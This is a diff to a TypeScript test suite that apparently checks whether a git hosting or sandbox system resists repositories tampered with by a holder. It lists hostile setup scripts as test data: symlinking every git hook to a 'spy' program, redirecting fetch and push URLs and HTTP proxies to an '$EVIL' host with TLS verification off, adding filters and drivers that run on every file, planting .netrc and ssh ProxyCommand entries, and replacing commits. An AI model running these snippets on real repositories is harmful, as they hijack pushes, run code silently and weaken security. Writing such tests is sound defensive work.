@@ -79,10 +79,17 @@ const url = (): string => guard.url('site.git');
 const evil = (): string => trap.url('site.git');
 const config = (name: string, value: string): string => `git config --add ${name} "${value}"\n`;
 
+const HOOKS = [
+  ...['pre-push', 'pre-commit', 'post-checkout', 'post-merge', 'post-rewrite', 'pre-rebase'],
+  ...['reference-transaction', 'post-index-change', 'prepare-commit-msg', 'commit-msg'],
+  ...['pre-receive', 'update', 'fsmonitor-watchman', 'proc-receive', 'pre-auto-gc'],
+  ...['post-commit', 'applypatch-msg'],
+] as const;
+
 const PLANTS: readonly Planted[] = [
   {
     what: 'every hook',
-    script: `mkdir -p .git/hooks; for hook in pre-push pre-commit post-checkout post-merge post-rewrite pre-rebase reference-transaction post-index-change prepare-commit-msg commit-msg pre-receive update fsmonitor-watchman proc-receive pre-auto-gc post-commit applypatch-msg; do ln -s "$HOME/spy" .git/hooks/$hook; done`,
+    script: `mkdir -p .git/hooks; for hook in ${HOOKS.join(' ')}; do ln -s "$HOME/spy" .git/hooks/$hook; done`,
   },
   {
     what: 'a folder of hooks',
@@ -110,46 +117,90 @@ ${config('core.hooksPath', '$HOME/hooks')}`,
   },
   {
     what: 'another name for the address',
-    script: `${config(`url.${'$EVIL'}.insteadOf`, '$URL')}${config(`url.${'$EVIL'}.pushInsteadOf`, '$URL')}git remote set-url origin "$EVIL"; git remote set-url --push origin "$EVIL"`,
+    script: [
+      config('url.$EVIL.insteadOf', '$URL'),
+      config('url.$EVIL.pushInsteadOf', '$URL'),
+      'git remote set-url origin "$EVIL"\n',
+      'git remote set-url --push origin "$EVIL"',
+    ].join(''),
   },
   {
     what: 'a proxy, and headers',
-    script: `${config('http.proxy', '$EVIL')}${config('http.extraHeader', 'X-Evil: 1')}${config('http.sslVerify', 'false')}${config('http.followRedirects', 'true')}`,
+    script: [
+      config('http.proxy', '$EVIL'),
+      config('http.extraHeader', 'X-Evil: 1'),
+      config('http.sslVerify', 'false'),
+      config('http.followRedirects', 'true'),
+    ].join(''),
   },
   {
     what: 'a filter for every file',
-    script: `${config('filter.x.clean', '$HOME/spy filter')}${config('filter.x.smudge', '$HOME/spy filter')}${config('filter.x.required', 'true')}mkdir -p .git/info; echo '* filter=x' >.git/info/attributes`,
+    script: [
+      config('filter.x.clean', '$HOME/spy filter'),
+      config('filter.x.smudge', '$HOME/spy filter'),
+      config('filter.x.required', 'true'),
+      `mkdir -p .git/info; echo '* filter=x' >.git/info/attributes`,
+    ].join(''),
     mayRun: true,
   },
   {
     what: 'a driver for merges, and texts of files',
-    script: `${config('merge.x.driver', '$HOME/spy')}${config('merge.default', 'x')}${config('diff.x.textconv', '$HOME/spy')}${config('diff.x.command', '$HOME/spy')}mkdir -p .git/info; echo '* merge=x diff=x' >.git/info/attributes`,
+    script: [
+      config('merge.x.driver', '$HOME/spy'),
+      config('merge.default', 'x'),
+      config('diff.x.textconv', '$HOME/spy'),
+      config('diff.x.command', '$HOME/spy'),
+      `mkdir -p .git/info; echo '* merge=x diff=x' >.git/info/attributes`,
+    ].join(''),
   },
   {
     what: 'what servers run',
-    script: `${config('uploadpack.packObjectsHook', '$HOME/spy')}${config('core.alternateRefsCommand', '$HOME/spy')}${config('receive.procReceiveRefs', 'refs')}${config('uploadpack.hideRefs', 'refs')}${config('uploadpack.allowAnySHA1InWant', 'false')}${config('protocol.version', '0')}`,
+    script: [
+      config('uploadpack.packObjectsHook', '$HOME/spy'),
+      config('core.alternateRefsCommand', '$HOME/spy'),
+      config('receive.procReceiveRefs', 'refs'),
+      config('uploadpack.hideRefs', 'refs'),
+      config('uploadpack.allowAnySHA1InWant', 'false'),
+      config('protocol.version', '0'),
+    ].join(''),
   },
   {
     what: 'other objects',
-    script: `mkdir "$HOME/other"; GIT_DIR="$HOME/other/x.git" git init -q --bare "$HOME/other/x.git"; echo "$HOME/other/x.git/objects" >>.git/objects/info/alternates`,
+    script: [
+      'mkdir "$HOME/other"\n',
+      'GIT_DIR="$HOME/other/x.git" git init -q --bare "$HOME/other/x.git"\n',
+      'echo "$HOME/other/x.git/objects" >>.git/objects/info/alternates',
+    ].join(''),
   },
   {
     what: 'a file that is included',
-    script: `printf '[core]\\n\\tfsmonitor = %s\\n\\tsshCommand = %s\\n' "$HOME/spy" "$HOME/spy" >"$HOME/included"; ${config('include.path', '$HOME/included')}`,
+    script: `printf '[core]\\n\\tfsmonitor = %s\\n\\tsshCommand = %s\\n' "$HOME/spy" "$HOME/spy" >"$HOME/included"
+${config('include.path', '$HOME/included')}`,
   },
   {
     what: 'a remote that promises what is missing',
-    script: `${config('extensions.partialClone', 'evil')}${config('core.repositoryFormatVersion', '1')}${config('remote.evil.url', 'ssh://x.example/x')}${config('remote.evil.promisor', 'true')}${config('core.sshCommand', '$HOME/spy read')}`,
+    script: [
+      config('extensions.partialClone', 'evil'),
+      config('core.repositoryFormatVersion', '1'),
+      config('remote.evil.url', 'ssh://x.example/x'),
+      config('remote.evil.promisor', 'true'),
+      config('core.sshCommand', '$HOME/spy read'),
+    ].join(''),
   },
   {
     what: 'a home full of settings',
-    script: `printf '[core]\\n\\tfsmonitor = %s\\n\\thooksPath = %s\\n[url "%s"]\\n\\tinsteadOf = %s\\n' "$HOME/spy" "$HOME" "$EVIL" "$URL" | tee "$HOME/.gitconfig" >/dev/null
+    script: `printf '[core]\\n\\tfsmonitor = %s\\n\\thooksPath = %s\\n[url "%s"]\\n\\tinsteadOf = %s\\n' \\
+  "$HOME/spy" "$HOME" "$EVIL" "$URL" | tee "$HOME/.gitconfig" >/dev/null
 mkdir -p "$HOME/.config/git" "$HOME/.ssh"; cp "$HOME/.gitconfig" "$HOME/.config/git/config"; echo '* filter=x' >"$HOME/.config/git/attributes"
 echo 'machine 127.0.0.1 login evil password evil' >"$HOME/.netrc"; printf 'Host *\\n  ProxyCommand %s\\n' "$HOME/spy" >"$HOME/.ssh/config"`,
   },
   {
     what: 'commits in place of others',
-    script: `fake=$(git -c user.name=x -c user.email=x commit-tree -m fake HEAD^{tree}); git replace HEAD $fake; mkdir -p .git/info; git rev-parse HEAD >.git/info/grafts`,
+    script: [
+      'fake=$(git -c user.name=x -c user.email=x commit-tree -m fake HEAD^{tree})\n',
+      'git replace HEAD $fake\n',
+      'mkdir -p .git/info; git rev-parse HEAD >.git/info/grafts',
+    ].join(''),
   },
   {
     what: 'another work tree',
@@ -204,7 +255,10 @@ describe('what a holder has planted', () => {
           expect(origin.git('site.git', 'rev-parse', 'main')).toBe(commit);
           expect(origin.git('site.git', 'show', 'main:a', 'main:b')).toBe('changed\nchanged');
           // One that the copy alone has comes from it, with all of that in force.
-          const make = `unset HOME; rm -f .git/info/grafts; git -c core.hooksPath=/dev/null -c core.fsmonitor=false -c commit.gpgSign=false -c core.bare=false -c core.worktree=$PWD --no-replace-objects -c user.name=x -c user.email=x commit-tree -p ${commit} -m mine ${commit}^{tree}`;
+          const make = `unset HOME; rm -f .git/info/grafts
+git -c core.hooksPath=/dev/null -c core.fsmonitor=false -c commit.gpgSign=false -c core.bare=false \\
+  -c core.worktree=$PWD --no-replace-objects -c user.name=x -c user.email=x \\
+  commit-tree -p ${commit} -m mine ${commit}^{tree}`;
           const mine = (await bench.kind.run(lease, make)).stdout.trim();
           expect(
             await bench.push(lease, { branch: 'main', commit: mine, expected: commit }),
